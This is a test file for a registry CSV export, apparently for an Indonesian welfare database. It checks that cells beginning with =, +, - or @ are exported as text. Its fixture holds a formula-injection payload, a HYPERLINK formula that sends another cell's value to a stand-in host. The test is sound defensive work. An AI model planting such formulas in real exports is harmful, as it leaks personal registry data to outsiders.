/**
 * CSV formula injection (issue 12): a registry extract may carry a cell such as
 * `=HYPERLINK(...)`; the rows export hands it back as text (a leading apostrophe), so the
 * operator's spreadsheet shows it and never runs it.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { testApp, type TestApp } from '../support/app.js';
import { TEST_DB } from '../support/db.js';
import { extract, importAs, row, tokenFor, writeCsv } from './support.js';

const OFFICE = 'kota-jambi';
const EVIL_ADDRESS = '=HYPERLINK("http://contoh.invalid/?d="&K2,"Klik")';

describe(`registry export neutralises formulas (${TEST_DB})`, () => {
  let t: TestApp;
  let dir: string;
  let snapshotId: string;
  before(async () => {
    t = await testApp();
    dir = mkdtempSync(join(tmpdir(), 'sigap-csv-inj-'));
    const file = join(dir, 'dtks.csv');
    writeCsv(file, extract(OFFICE, 20, [
      row({ nik: '1571024107900003', kk: '1571020101150007', nama: 'SITI AMINAH', jenis_kelamin: 'P', alamat: EVIL_ADDRESS, ibu: '@SUM(1+1)' }),
      row({ nik: '1571021708850002', kk: '1571020101150008', nama: 'AHMAD FAUZI', jenis_kelamin: 'L', alamat: '+62 RT 05', ibu: '-HALIMAH' }),
    ]));
    const r = await importAs(t, file, OFFICE, { period: '2026-11' });
    assert.ok(r.ok, JSON.stringify(r));
    snapshotId = r.value.snapshotId;
  });
  after(async () => {
    await t.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('exports cells starting with = + - @ as text, the value kept after the apostrophe', async () => {
    const r = await t.app.inject({ method: 'GET', url: `/api/v1/registry/snapshots/${snapshotId}/export?reason=${encodeURIComponent('Surat Bappeda 400/12/2026')}`, headers: await tokenFor(t, `operator@${OFFICE}`) });
    assert.equal(r.statusCode, 200, r.body);
    const lines = r.body.replace(/^\uFEFF/, '').trim().split('\n');
    const siti = lines.find((l) => l.includes('SITI AMINAH'))!;
    assert.ok(siti.includes(`"'${EVIL_ADDRESS.replace(/"/g, '""')}"`), siti);
    assert.ok(siti.includes(",'@SUM(1+1),"), siti);
    const ahmad = lines.find((l) => l.includes('AHMAD FAUZI'))!;
    assert.ok(ahmad.includes(",'+62 RT 05,") && ahmad.includes(",'-HALIMAH,"), ahmad);
    // No cell of the file starts a formula.
    for (const l of lines) for (const cell of l.split(',')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, l);
  });
});
